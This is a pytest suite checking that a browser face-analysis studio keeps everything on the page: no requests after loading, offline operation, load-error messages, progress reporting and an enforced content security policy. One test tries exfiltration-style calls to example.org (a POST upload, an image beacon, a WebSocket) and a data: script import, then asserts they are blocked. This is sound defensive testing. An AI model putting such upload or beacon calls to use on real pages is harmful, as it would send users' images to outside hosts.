"""Nothing leaves the page: no other origin, no upload, no request after loading, and the policy is in force."""

from collections.abc import Iterator
from threading import Thread

import numpy as np
import pytest

from ekspresi.studio.server import make_server
from ekspresi.studio.site import SITE
from tests.support.composed_scenes import compose_scene
from tests.support.studio_pages import OPEN_ENGINE, UNPACK, StudioPage, to_rgba, watch_page

FACES = """
const { faces } = await engine.analyze({ image: unpack(given), minFacePx: 30 });
const points = await engine.sizes({ crop: { side: 12, gray: faces[0].crop.gray.slice(0, 144) } });
return [faces.length, points.length];
"""


@pytest.fixture
def studio(engine_page: StudioPage) -> Iterator[StudioPage]:
    """A page that has loaded nothing yet, of a server of its own."""
    context = engine_page.page.context.browser.new_context()
    with make_server(SITE, port=0) as server:
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        page = watch_page(context.new_page(), f"http://127.0.0.1:{server.server_port}", server)
        page.page.goto(f"{page.origin}/js/engine/client.js")
        yield page
        context.close()
        server.shutdown()
        thread.join()


def test_engine_works_with_the_server_stopped(studio: StudioPage) -> None:
    studio.run(UNPACK)
    facts = studio.run(OPEN_ENGINE, {"threads": 2})
    assert facts["threads"] == 2  # the headers isolate the page, so threads may share memory
    assert studio.page.evaluate("() => crossOriginIsolated")
    studio.server.shutdown()
    studio.server.server_close()
    loaded = len(studio.requests)
    assert studio.run(FACES, to_rgba(compose_scene(0))) == [5, 5]
    assert len(studio.requests) == loaded  # no request after loading
    assert {method for method, _ in studio.requests} == {"GET"}
    assert all(address.startswith(f"{studio.origin}/") for _, address in studio.requests)
    assert any(address.endswith(".wasm") for _, address in studio.requests)  # the worker's requests are seen too
    assert (studio.problems, studio.violations()) == ([], [])


def test_policy_stops_what_the_page_must_not_do(studio: StudioPage) -> None:
    outcomes = studio.run(
        """const tries = [
          () => fetch("https://example.org/upload", { method: "POST", body: "picture" }),
          () => import("data:text/javascript,export default 1"),
          () => new Promise((resolve, reject) => Object.assign(new Image(), {
            onload: resolve, onerror: reject, src: "https://example.org/pixel.gif?picture" })),
          () => new Promise((resolve, reject) => Object.assign(new WebSocket("wss://example.org"), {
            onopen: resolve, onerror: reject })),
        ];
        return Promise.all(tries.map((attempt) => attempt().then(() => "done", () => "stopped")));"""
    )
    assert outcomes == ["stopped"] * 4
    directives = {violation.split(" ")[0].removesuffix("-elem") for violation in studio.violations()}
    assert directives == {"connect-src", "script-src", "img-src"}


def test_open_without_a_network_file_names_the_fix(studio: StudioPage) -> None:
    studio.page.route("**/models/recognizer.onnx", lambda route: route.abort())
    code, message = studio.run(
        """const { createEngine } = await import("/js/engine/client.js");
        return createEngine().open({ threads: 1 }).catch(({ code, message }) => [code, message]);"""
    )
    assert code == "load"
    assert "/models/recognizer.onnx: did not come" in message
    assert message.endswith("Load the page again.")


def test_open_reports_its_progress(studio: StudioPage) -> None:
    steps = studio.run(
        """const steps = [];
        const { createEngine } = await import("/js/engine/client.js");
        const engine = createEngine();
        await engine.open({ threads: 1, onProgress: (done, total) => steps.push([done, total]) });
        engine.close();
        return steps;"""
    )
    done, total = np.transpose(steps)
    assert (np.diff(done) >= 0).all()
    assert len(set(total)) == 1
    assert done[-1] == total[-1] > 5e6
